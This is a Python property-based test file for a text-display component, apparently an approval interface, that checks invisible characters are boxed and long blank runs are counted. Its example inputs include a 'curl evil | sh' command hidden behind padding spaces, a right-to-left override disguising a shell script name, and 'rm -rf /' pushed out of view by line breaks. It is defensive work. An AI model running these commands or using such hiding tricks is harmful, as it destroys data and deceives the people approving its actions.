"""Text on a card hides nothing and changes nothing."""

from hypothesis import example, given
from hypothesis import strategies as st

from assent.editor.cards.spans import code, line, plain, text_of
from assent.gate.text.invisible_characters import drawn
from tables import each_row

TEXTS = st.text(st.characters(), max_size=300)


@given(TEXTS)
@example("ls -la" + " " * 188 + "; curl evil | sh")
@example("invoice_\u202egpj.sh")
@example("a\n\n\n\n\n\n\n\nrm -rf /")
def test_the_spans_of_a_text_are_the_text(text: str) -> None:
    for spans in (plain(text), code(text), line(text)):
        assert "".join(span.text for span in spans) == text


@given(TEXTS)
def test_every_character_that_cannot_be_seen_is_drawn_as_its_number(text: str) -> None:
    for span in code(text):
        if span.kind == "hidden" and len(span.text) == 1:
            assert span.shown == f"U+{ord(span.text):04X}"
        else:
            seen = drawn(span.text)
            assert all(
                char.isprintable() or char in "\n\t" or span.shown or at in seen
                for at, char in enumerate(span.text)
            )


@each_row(
    "unseen",
    [
        *"\x00\x07\x1b\x7f\x85\u00ad\u034f\u061c\u115f\u180e\u200b\u200d\u200e\u2028\u202e\u2060",
        *"\u2066\u2800\u3164\ufe0f\ufeff\uffa0\U000e0041\U000e0101\u00a0\u3000",
    ],
)
def test_what_looks_like_nothing_is_boxed(unseen: str) -> None:
    assert [span.kind for span in code(f"a{unseen}b")] == ["code", "hidden", "code"]


def test_long_blanks_are_counted_so_that_nothing_is_pushed_out_of_sight() -> None:
    assert text_of(code("ls" + " " * 188 + "; rm")) == "ls⟨188 spaces⟩; rm"
    assert text_of(code("ls" + "\n" * 40 + "rm")) == "ls⟨40 line breaks⟩rm"


def test_a_line_shows_even_its_breaks() -> None:
    assert text_of(line("a\nb")) == "aU+000Ab"


def test_ordinary_text_of_any_language_is_left_alone() -> None:
    for text in (
        "git commit -m 'ça va'",
        "写代码",
        "שלום",
        "emoji 🎉",
        "⚠\ufe0f 👩\u200d💻 1\ufe0f\u20e3",
    ):
        assert [span.kind for span in code(text)] == ["code"]


def test_a_flood_of_hidden_characters_is_one_box() -> None:
    assert text_of(code("a" + "\u200b" * 100_000 + "b")) == "a⟨100,000 hidden characters⟩b"
